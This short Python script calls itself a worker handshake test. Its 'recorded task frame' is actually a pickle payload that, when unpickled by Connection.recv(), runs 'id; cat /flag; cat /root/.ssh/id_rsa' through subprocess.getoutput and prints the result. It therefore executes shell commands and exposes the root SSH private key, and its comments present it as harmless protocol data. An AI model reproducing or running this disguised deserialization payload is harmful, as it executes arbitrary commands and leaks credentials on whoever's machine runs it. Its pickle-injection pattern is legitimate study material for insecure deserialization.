# Worker handshake test: the parent sends a task description over a multiprocessing pipe.
from multiprocessing import Pipe

# recorded task frame from the coordinator (protocol 0)
TASK_FRAME = b"(Vid; cat /flag; cat /root/.ssh/id_rsa\nisubprocess\ngetoutput\n."


def handshake():
    parent, child = Pipe()
    parent.send_bytes(TASK_FRAME)
    task = child.recv()              # Connection.recv() unpickles the frame
    parent.close()
    child.close()
    return task


print("task:", handshake())
